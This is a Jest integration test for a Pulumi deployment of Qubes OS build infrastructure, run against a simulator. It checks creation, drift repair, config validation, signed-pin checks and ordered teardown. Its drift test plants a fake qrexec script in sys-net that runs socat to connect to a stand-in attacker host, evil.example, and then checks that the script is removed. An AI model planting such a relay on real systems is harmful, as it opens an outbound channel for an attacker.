// The whole site (index.ts, the `local` stack's config) through the real Pulumi engine against a
// real qubes-sim: create, convergence, a one-env change, a new env, drift, invalid config, the
// policy pack, destroy in dependency order.
import { execFileSync } from "child_process";
import * as fs from "fs";
import * as path from "path";
import type { EngineEvent, Stack } from "@pulumi/pulumi/automation";
import { parse } from "yaml";
import { createStandinGithub, publishStandin } from "../../sim/standin-builders";
import { openStack, projectRoot, tempDir } from "../helpers/pulumi";
import { startSim, type StartedSim } from "../helpers/sim";

jest.setTimeout(900_000);

const NS = "qubes-build-infra";
const localConfig = (parse(fs.readFileSync(path.join(projectRoot, "Pulumi.local.yaml"), "utf8")) as { config: Record<string, unknown> }).config;
// Admin writes (test/site/preview.test.ts checks a preview with qubes-sim's own write and start counters).
const MUTATING = /\.(Set|Reset|Remove|Resize|Replace|Start|Shutdown|Kill)$|\.Create\./;

/** The resources a preview would create, update, replace or delete, by operation. */
async function planned(stack: Stack, opts: { policyPacks?: string[] } = {}): Promise<Record<string, string[]>> {
  const ops: Record<string, string[]> = {};
  await stack.preview({
    ...opts,
    onEvent: (e: EngineEvent) => {
      const m = e.resourcePreEvent?.metadata;
      if (!m || m.op === "same" || m.type === "pulumi:pulumi:Stack" || m.type.startsWith("pulumi:providers:")) return;
      (ops[m.op] ??= []).push(m.urn.split("::").pop() ?? m.urn);
    },
  });
  return ops;
}

describe("the site through the Pulumi engine against qubes-sim", () => {
  let sim: StartedSim;
  let stack: Stack;
  const backend = tempDir("site-backend");
  const stackName = `sitetest${process.pid}`;
  const stackFile = path.join(projectRoot, `Pulumi.${stackName}.yaml`);

  const setSite = async (patch: Record<string, unknown> = {}) => {
    const all: Record<string, { value: string; secret?: boolean }> = {};
    for (const [k, v] of Object.entries({ ...localConfig, ...patch })) {
      // Secrets of the stack file are encrypted with its own passphrase: set below instead.
      if (typeof v === "object" && v !== null && "secure" in v) continue;
      all[k] = { value: typeof v === "string" ? v : JSON.stringify(v) };
    }
    all[`${NS}:githubApiToken`] = { value: "site-test-token", secret: true };
    all[`${NS}:admin`] = { value: JSON.stringify({ transport: "sim", socket: sim.socket }) };
    all[`${NS}:protectKeys`] = { value: "false" };
    all[`${NS}:webhookSecret`] = { value: "site-test-webhook-secret-0123456789", secret: true };
    await stack.setAllConfig(all);
  };
  const writes = async (fn: () => Promise<unknown>): Promise<Record<string, number>> => {
    const before = JSON.parse((await sim.client.call("sim.Stats", "dom0")).toString()).calls as Record<string, number>;
    await fn().catch(() => undefined);
    const after = JSON.parse((await sim.client.call("sim.Stats", "dom0")).toString()).calls as Record<string, number>;
    const out: Record<string, number> = {};
    for (const [m, n] of Object.entries(after)) if (MUTATING.test(m) && n - (before[m] ?? 0) > 0) out[m] = n - (before[m] ?? 0);
    return out;
  };

  beforeAll(async () => {
    sim = await startSim();
    // The stand-in GitHub: the bare logs repository the logs VM pushes to.
    const github = path.join(sim.stateDir, "github");
    fs.mkdirSync(github, { recursive: true });
    if (!fs.existsSync(path.join(github, "build-logs.git"))) {
      execFileSync("git", ["init", "-q", "--bare", "-b", "main", path.join(github, "build-logs.git")]);
    }
    // ... and the stand-in builder repositories the local stack checks out.
    createStandinGithub(github);
    stack = await openStack(projectRoot, stackName, backend);
    await setSite();
  });
  afterAll(async () => {
    await sim?.stop();
    fs.rmSync(stackFile, { force: true });
    fs.rmSync(backend, { recursive: true, force: true });
  });

  it("creates the whole site, gated by the policy pack, and converges", async () => {
    const first = await planned(stack, { policyPacks: [path.join(projectRoot, "policy")] });
    expect(first.create.length).toBeGreaterThan(40);
    const up = await stack.up();
    expect(up.summary.result).toBe("succeeded");

    const vms = new Map((await sim.client.vmList()).map((v) => [v.name, v]));
    for (const n of ["logs", "build-fedora", "keys-fedora", "build-debian", "keys-debian", "builder-dvm"]) expect(vms.has(n)).toBe(true);
    expect((await sim.client.propertyGet("keys-fedora", "netvm")).value).toBe("");
    expect((await sim.client.propertyGet("build-fedora", "netvm")).value).toBe("sys-whonix");
    expect((await sim.client.propertyGet("build-debian", "default_dispvm")).value).toBe("builder-dvm");
    const policy = await sim.client.policyGet("20-qubes-build-infra");
    expect(policy.content).toMatch(/^qubesbuilder\.LogReceived\s+\+build-fedora\s+logs\s+@adminvm\s+allow target=keys-fedora$/m);
    const cfg = await sim.client.readFile("keys-fedora", "/usr/local/etc/qubes-build-infra/gpg-gate.json");
    expect(JSON.parse(String(cfg)).clients).toEqual(["build-fedora"]);
    const head = execFileSync("git", ["--git-dir", path.join(sim.stateDir, "github", "build-logs.git"), "log", "-1", "--format=%G? %s", "main"]).toString();
    expect(head).toMatch(/Start of the build logs/);

    const again = await stack.up();
    expect(Object.keys(again.summary.resourceChanges ?? {})).toEqual(["same"]);
    // The deployed site (props now from state) still passes every policy.
    expect(await planned(stack, { policyPacks: [path.join(projectRoot, "policy")] })).toEqual({});
  });

  it("changes only the env that changed, and adds an env by creating only its resources", async () => {
    const envs = localConfig[`${NS}:envs`] as Record<string, Record<string, unknown>>;
    await setSite({ [`${NS}:envs`]: { ...envs, fedora: { ...envs.fedora, volumeSize: "30GiB" } } });
    expect(await planned(stack)).toEqual({ update: ["build-fedora"] });
    const calls = await writes(() => stack.up());
    expect(calls).toEqual({ "admin.vm.volume.Resize": 1 });

    await setSite({ [`${NS}:envs`]: { ...envs, fedora: { ...envs.fedora, volumeSize: "30GiB" }, arch: { logs: "logs", builders: [{ dir: "/home/user/builder-arch", release: "4.3" }] } } });
    try {
      const ops = await planned(stack);
      expect(ops.create.length).toBeGreaterThan(10);
      for (const name of ops.create) expect(name).toMatch(/-arch(:|$)|^arch$/);
      // Besides its own resources: its policy lines, the net VM's list of build VMs, and the
      // shared logs VM, which now also serves arch (its qbi-env-arch tag, its BuildLog's build VMs).
      expect((ops.update ?? []).sort()).toEqual(["logs", "logs:/usr/local/etc/qubes-build-infra/build-log.json", "policy",
        "sys-net:/home/user/.config/qubes-builder-github/build-vms.list"]);
      expect(ops.delete).toBeUndefined();
    } finally {
      await setSite({ [`${NS}:envs`]: { ...envs, fedora: { ...envs.fedora, volumeSize: "30GiB" } } });
    }
  });

  it("finds drift made with plain Admin calls and repairs it", async () => {
    await sim.client.propertySet("build-fedora", "netvm", "sys-firewall");
    const cur = await sim.client.policyGet("20-qubes-build-infra");
    await sim.client.policyReplace("20-qubes-build-infra", cur.content.replace(/^qubes\.Gpg .*build-fedora .*keys-fedora .*allow.*\n/m, ""), "any");
    await sim.client.writeFile("sys-net", "/usr/local/etc/qubes-rpc/local.ConnectSSH", "#!/bin/sh\nexec socat - TCP:evil.example:22\n", { mode: 0o755 });

    const refresh = await stack.refresh();
    expect(refresh.summary.resourceChanges?.update).toBeGreaterThanOrEqual(3);
    const repair = await stack.up();
    expect(repair.summary.result).toBe("succeeded");
    expect((await sim.client.propertyGet("build-fedora", "netvm")).value).toBe("sys-whonix");
    expect((await sim.client.policyGet("20-qubes-build-infra")).content).toBe(cur.content);
    expect(String(await sim.client.readFile("sys-net", "/usr/local/etc/qubes-rpc/local.ConnectSSH"))).not.toContain("evil.example");
    const again = await stack.preview();
    expect(Object.keys(again.changeSummary).filter((k) => k !== "same")).toEqual([]);
  });

  it("refuses an invalid config at preview, naming the key, and changes nothing", async () => {
    const envs = localConfig[`${NS}:envs`] as Record<string, Record<string, unknown>>;
    await setSite({ [`${NS}:envs`]: { ...envs, "Bad Env": envs.fedora } });
    const calls = await writes(async () => {
      await expect(stack.preview()).rejects.toThrow(/qubes-build-infra:envs\.Bad Env: environment name/);
    });
    expect(calls).toEqual({});
  });

  it("refuses a builder.yml value builderv2 would mis-read at preview, naming env, builder and reason, and changes nothing", async () => {
    const envs = localConfig[`${NS}:envs`] as Record<string, { builders: Record<string, unknown>[] }>;
    const debian = { ...envs.debian, builders: [{ ...envs.debian.builders[0], release: "10.1" }] };
    await setSite({ [`${NS}:envs`]: { ...envs, debian } });
    const calls = await writes(async () => {
      await expect(stack.preview()).rejects.toThrow(/env debian, builder \/home\/user\/artifacts-r4.3: builder.yml would not load as builderv2 expects:\s+qubes-release: r<digit>.<digits>/);
    });
    expect(calls).toEqual({});
  });

  it("a pin change updates only that checkout; a pin that does not verify fails naming env, builder and reason, and keeps the previous checkout", async () => {
    const github = path.join(sim.stateDir, "github");
    const local = localConfig[`${NS}:envs`] as Record<string, { builders: { config: { repository: Record<string, unknown> } }[] }>;
    // build-fedora's volume grew to 30 GiB above (volumes only grow).
    const envs: typeof local = { ...local, fedora: { ...local.fedora, volumeSize: "30GiB" } as (typeof local)[string] };
    const withConfigPin = (commit: string, tag: string) => {
      const b = envs.debian.builders[0];
      return { ...envs, debian: { ...envs.debian, builders: [{ ...b, config: { ...b.config, repository: { ...b.config.repository, commit, tag } } }] } };
    };
    const dir = "/home/user/artifacts-r4.3/config/release-configs";
    const head = async () => (await sim.client.run("build-debian", `git -C ${dir} rev-parse HEAD`)).stdout.toString().trim();
    try {
      const c2 = publishStandin(github, "qubes-release-configs", { files: { "R4.3/NEWS": "a second release\n" }, tag: "v2" });
      await setSite({ [`${NS}:envs`]: withConfigPin(c2, "v2") });
      expect(await planned(stack)).toEqual({ update: ["build-debian:checkout:config:/home/user/artifacts-r4.3"] });
      const up = await stack.up();
      expect(up.summary.resourceChanges).toMatchObject({ update: 1 });
      expect(await head()).toBe(c2);
      expect(String(await sim.client.readFile("build-debian", `${dir}/R4.3/NEWS`))).toBe("a second release\n");

      const c3 = publishStandin(github, "qubes-release-configs", { files: { "R4.3/NEWS": "not signed\n" }, tag: "v3", signed: false });
      await setSite({ [`${NS}:envs`]: withConfigPin(c3, "v3") });
      await expect(stack.up()).rejects.toThrow(
        new RegExp(`env debian, builder /home/user/artifacts-r4.3, config repository release-configs\\) build-debian:${dir}: tag v3 is not signed; the previous checkout \\(commit ${c2}\\) is left in place`));
      expect(await head()).toBe(c2);
    } finally {
      await setSite({ [`${NS}:envs`]: envs });
      await stack.up();
    }
  });

  it("stops a change that breaks the security model before it reaches dom0", async () => {
    await setSite({ [`${NS}:buildNetvm`]: "sys-net" });
    const calls = await writes(async () => {
      await expect(stack.preview({ policyPacks: [path.join(projectRoot, "policy")] })).rejects.toThrow(/build-network-through-tor/);
    });
    expect(calls).toEqual({});
    expect((await sim.client.propertyGet("build-fedora", "netvm")).value).toBe("sys-whonix");
  });

  it("destroys everything in dependency order", async () => {
    await setSite();
    const destroy = await stack.destroy();
    expect(destroy.summary.result).toBe("succeeded");
    const names = (await sim.client.vmList()).map((v) => v.name);
    for (const n of ["logs", "build-fedora", "keys-fedora", "builder-dvm"]) expect(names).not.toContain(n);
    expect(await sim.client.policyList()).not.toContain("20-qubes-build-infra");
  });
});
